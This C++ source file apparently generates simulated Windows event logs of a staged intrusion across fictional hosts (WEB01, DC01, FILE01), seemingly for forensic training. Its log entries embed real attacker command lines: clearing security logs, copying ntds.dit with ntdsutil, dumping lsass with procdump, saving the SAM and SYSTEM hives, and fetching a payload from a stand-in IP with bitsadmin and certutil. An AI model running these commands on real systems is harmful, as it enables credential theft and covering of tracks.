#include "application_log.h"
#include "operational_logs.h"
#include "security_log.h"
#include "story_parts.h"
#include "system_log.h"

// S4, the many-entry intruder: a web shell on WEB01, a help file in a mail to PC07, an update with a strange
// library on PC12, a stolen backup account over the VPN; then DC01 and FILE01. Files, names and addresses are
// made up; nothing that is named here exists.

namespace konseki::scenario {

namespace {
constexpr const char* cmd = R"(C:\Windows\System32\cmd.exe)";
constexpr const char* vpn_address = "10.9.0.23";
constexpr const char* tool = R"(C:\PerfLogs\x\p.exe)";

/// The intruder at work. Sessions live as long as the story.
class Intruder {
  public:
    explicit Intruder(World& world)
        : world_(world),
          backup_(world.account("svc_backup", 1131)),
          admin_(world.account("adm01", 1104)),
          web_(world.host("WEB01")),
          controller_(world.host("DC01")),
          files_(world.host("FILE01")) {}

    void plan();

  private:
    /// Hours and minutes of a night or day, Japanese time.
    void at(Day day, unsigned hour, unsigned minute, void (Intruder::*step)()) {
        world_.agenda().at(japan(day, hour, minute, 7 * minute % 60),
                           [this, step] { (this->*step)(); });
    }
    void run(Host& host, const Account& who, std::uint64_t session, const std::string& image,
             const std::string& command_line, const std::string& parent) {
        process(host, {.account = who,
                       .logon_id = session,
                       .image = image,
                       .command_line = command_line,
                       .parent = parent,
                       .elevated = true});
    }
    void on_files(const std::string& image, const std::string& arguments) {
        run(files_, admin_, files_session_, R"(C:\Windows\System32\)" + image,
            image + ' ' + arguments, cmd);
    }

    void help_file();
    void strange_library();
    void web_shell();
    void web_shell_commands();
    void come_by_vpn();
    void clear_logs();
    void go_to_controller();
    void copy_directory();
    void stop_service();
    void replicate();
    void go_to_files();
    void dump_passwords();
    void save_hives();
    void bring_tools();
    void pack();
    void make_account();
    void delete_account();
    void remote_tool();
    void tunnel();
    void leave_tunnel();

    World& world_;
    Account backup_, admin_;
    Host &web_, &controller_, &files_;
    std::uint64_t web_session_ = 0, controller_session_ = 0, files_session_ = 0;
};

void Intruder::plan() {
    const Day first = day_of(2019, 9, 5);
    at(first, 9, 12, &Intruder::help_file);
    at(first + 1, 10, 48, &Intruder::strange_library);
    at(first + 4, 23, 38, &Intruder::web_shell);
    at(first + 4, 23, 41, &Intruder::web_shell_commands);
    at(first + 5, 2, 14, &Intruder::come_by_vpn);
    at(first + 5, 2, 47, &Intruder::clear_logs);
    const Day second = first + 6;
    at(second, 2, 14, &Intruder::come_by_vpn);
    at(second, 2, 21, &Intruder::go_to_controller);
    at(second, 2, 31, &Intruder::copy_directory);
    at(second, 2, 44, &Intruder::stop_service);
    at(second, 2, 52, &Intruder::replicate);
    at(second, 3, 20, &Intruder::go_to_files);
    at(second, 3, 31, &Intruder::dump_passwords);
    at(second, 3, 35, &Intruder::save_hives);
    at(second, 3, 40, &Intruder::bring_tools);
    at(second, 3, 52, &Intruder::pack);
    at(second, 3, 55, &Intruder::make_account);
    at(second, 6, 58, &Intruder::delete_account);
    at(second + 1, 3, 2, &Intruder::remote_tool);
    at(second + 1, 3, 10, &Intruder::tunnel);
    at(second + 1, 3, 44, &Intruder::leave_tunnel);
}

void Intruder::help_file() {
    Host& host = world_.host("PC07");
    const Account reader = world_.account("ishii", 1107);
    const std::string viewer = R"(C:\Windows\hh.exe)";
    process(
        host,
        {.account = reader,
         .logon_id = 0x5a3c1,
         .image = viewer,
         .command_line =
             R"("C:\Windows\hh.exe" C:\Users\ishii\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7Q2KXN4A\会議資料.chm)",
         .parent = R"(C:\Program Files (x86)\Microsoft Office\root\Office16\OUTLOOK.EXE)"});
    process(host, {.account = reader,
                   .logon_id = 0x5a3c1,
                   .image = cmd,
                   .command_line = R"("C:\Windows\System32\cmd.exe" /c type %TEMP%\n.txt)",
                   .parent = viewer});
}

void Intruder::strange_library() {
    const std::string folder = R"(C:\Users\mori\AppData\Local\AokumoLauncher\)";
    const std::string launcher = folder + "AokumoLauncher.exe";
    Host& host = world_.host("PC12");
    sysmon_file(host, folder + "Update.exe", folder + "version.dll");
    process(host, {.account = world_.account("mori", 1112),
                   .logon_id = 0x61f07,
                   .image = launcher,
                   .command_line = '"' + launcher + "\" --after-update",
                   .parent = folder + "Update.exe",
                   .company = "Aokumo Systems"});
    sysmon_library(host, {launcher, launcher, "Aokumo Systems", "Aokumo Systems K.K."});
    sysmon_library(host, {launcher, folder + "version.dll", "?", ""});
}

void Intruder::web_shell() {
    sysmon_file(web_, R"(C:\Windows\System32\inetsrv\w3wp.exe)",
                R"(C:\inetpub\wwwroot\aspnet_client\system.aspx)");
}

void Intruder::web_shell_commands() {
    const Account pool{"DefaultAppPool", "IIS APPPOOL",
                       "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415"};
    for (const char* command : {"whoami", "ipconfig /all", "dir C:\\inetpub"})
        process(web_, {.account = pool,
                       .logon_id = 0x4d2e1,
                       .image = cmd,
                       .command_line = std::string("\"cmd.exe\" /c ") + command,
                       .parent = R"(C:\Windows\System32\inetsrv\w3wp.exe)"});
}

void Intruder::come_by_vpn() {
    ticket_granting(controller_, backup_, vpn_address);
    service_ticket(controller_, backup_, web_.domain_account(), vpn_address);
    visit(web_, {.account = backup_, .address = vpn_address, .elevated = true});
    rdp_arrived(web_, backup_, vpn_address);
    web_session_ =
        logon(web_, {.account = backup_, .type = 10, .address = vpn_address, .elevated = true});
    session(web_, 21, backup_, 3, vpn_address);
    ticket_granting(controller_, backup_, web_.machine().address);
    run(web_, backup_, web_session_, cmd, "\"C:\\Windows\\system32\\cmd.exe\"",
        R"(C:\Windows\explorer.exe)");
    web_.agenda().after(40 * one_minute, [this, id = web_session_] {
        session(web_, 23, backup_, 3, "");
        logoff(web_, backup_, 10, id);
    });
}

void Intruder::clear_logs() {
    run(web_, backup_, web_session_, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil cl Security",
        cmd);
    clear_security(web_, backup_, web_session_);
    run(web_, backup_, web_session_, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil cl System",
        cmd);
    clear_log(web_, backup_, "System");
}

void Intruder::go_to_controller() {
    explicit_credentials(web_, backup_, web_session_, admin_, "DC01", tool);
    // adm01's ticket was taken from memory: DC01 gives a service ticket and never saw the logon's.
    service_ticket(controller_, admin_, controller_.domain_account(), web_.machine().address);
    controller_session_ = logon(
        controller_, {.account = admin_, .address = web_.machine().address, .elevated = true});
    service_installed(controller_,
                      {.name = "KbxWqTzR", .image_path = R"(%SystemRoot%\KbxWqTzR.exe)"},
                      admin_.sid);
    service_state(controller_, "KbxWqTzR", "KbxWqTzR", true);
}

void Intruder::copy_directory() {
    const std::string copy = R"(C:\PerfLogs\x\Active Directory\ntds.dit)";
    run(controller_, system_account(), 0x3e7, R"(C:\Windows\System32\ntdsutil.exe)",
        R"(ntdsutil "ac i ntds" ifm "create full C:\PerfLogs\x" q q)",
        R"(C:\Windows\KbxWqTzR.exe)");
    shadow_copy_made(controller_, admin_, R"(C:\Windows\System32\ntdsutil.exe)", 3);
    esent(controller_, 325, "NTDS", copy, "");
    controller_.agenda().after(80 * one_second,
                               [this, copy] { esent(controller_, 327, "NTDS", copy, ""); });
}

void Intruder::stop_service() { service_state(controller_, "KbxWqTzR", "KbxWqTzR", false); }

void Intruder::replicate() {
    service_ticket(controller_, backup_, controller_.domain_account(), web_.machine().address);
    const std::uint64_t id = logon(
        controller_, {.account = backup_, .address = web_.machine().address, .elevated = true});
    replication_right(controller_, backup_, id, "{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}");
    replication_right(controller_, backup_, id, "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}");
    logoff(controller_, backup_, 3, id);
}

void Intruder::go_to_files() {
    explicit_credentials(web_, backup_, web_session_, admin_, "FILE01", tool);
    service_ticket(controller_, admin_, files_.domain_account(), web_.machine().address);
    files_session_ =
        logon(files_, {.account = admin_, .address = web_.machine().address, .elevated = true});
    service_installed(files_,
                      {.name = "StorSyncSvc",
                       .image_path = R"(%SystemRoot%\System32\svchost.exe -k StorSyncSvc)",
                       .automatic = true},
                      admin_.sid);
    service_state(files_, "Storage Sync Service", "StorSyncSvc", true);
}

void Intruder::dump_passwords() {
    run(files_, admin_, files_session_, R"(C:\PerfLogs\x\procdump64.exe)",
        R"(procdump64.exe -accepteula -ma lsass.exe C:\PerfLogs\x\l.dmp)", cmd);
}

void Intruder::save_hives() {
    on_files("reg.exe", R"(save hklm\sam C:\PerfLogs\x\sam.save)");
    hive_saved(files_, R"(\??\C:\PerfLogs\x\sam.save)", 71, admin_.sid);
    on_files("reg.exe", R"(save hklm\system C:\PerfLogs\x\system.save)");
    hive_saved(files_, R"(\??\C:\PerfLogs\x\system.save)", 18'204, admin_.sid);
}

void Intruder::bring_tools() {
    download(files_, {.title = "upd",
                      .url = "http://203.0.113.151/img/c.txt",
                      .program = R"(C:\Windows\System32\bitsadmin.exe)",
                      .owner = admin_.full_name(),
                      .owner_sid = admin_.sid});
    on_files("certutil.exe", R"(-decode C:\PerfLogs\x\c.txt C:\PerfLogs\x\c.dll)");
}

void Intruder::pack() { on_files("makecab.exe", R"(C:\PerfLogs\x\lsass.dmp C:\PerfLogs\x\1.cab)"); }

void Intruder::make_account() {
    const Account made = files_.local_account("support$", 1012);
    account_created(files_, admin_, files_session_, made);
    added_to_administrators(files_, admin_, files_session_, made.sid);
}

void Intruder::delete_account() {
    account_deleted(files_, admin_, files_session_, files_.local_account("support$", 1012));
    logoff(files_, admin_, 3, files_session_);
    logoff(controller_, admin_, 3, controller_session_);
}

void Intruder::remote_tool() {
    service_installed(files_,
                      {.name = "AnyDesk",
                       .image_path = R"("C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service)",
                       .automatic = true},
                      backup_.sid);
    service_state(files_, "AnyDesk Service", "AnyDesk", true);
}

void Intruder::tunnel() {
    rdp_arrived(files_, admin_, "::1");
    files_session_ =
        logon(files_, {.account = admin_, .type = 10, .address = "::1", .elevated = true});
    session(files_, 21, admin_, 2, "::%16777216");
}

void Intruder::leave_tunnel() {
    session(files_, 24, admin_, 2, "::%16777216");
    logoff(files_, admin_, 10, files_session_);
}
}  // namespace

void write_many_entries(EvidenceFolder& folder) {
    World world(aokumo(), 4, folder);
    add_aokumo_hosts(world);
    Office office(world, {});
    add_aokumo_staff(world, office);
    office.plan(day_of(2019, 9, 2), day_of(2019, 9, 13), {});
    Intruder intruder(world);
    intruder.plan();
    world.agenda().run_until(japan(day_of(2019, 9, 14), 0, 0));
}

}  // namespace konseki::scenario
